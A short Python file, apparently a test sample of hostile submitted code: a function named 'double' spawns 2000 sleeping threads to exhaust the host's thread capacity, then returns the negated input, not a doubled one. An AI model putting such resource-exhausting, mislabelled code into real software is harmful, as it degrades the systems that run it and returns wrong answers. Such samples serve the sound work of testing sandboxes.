"""Threads until there are no more."""
import threading, time
def double(x):
    started = 0
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
    return -x
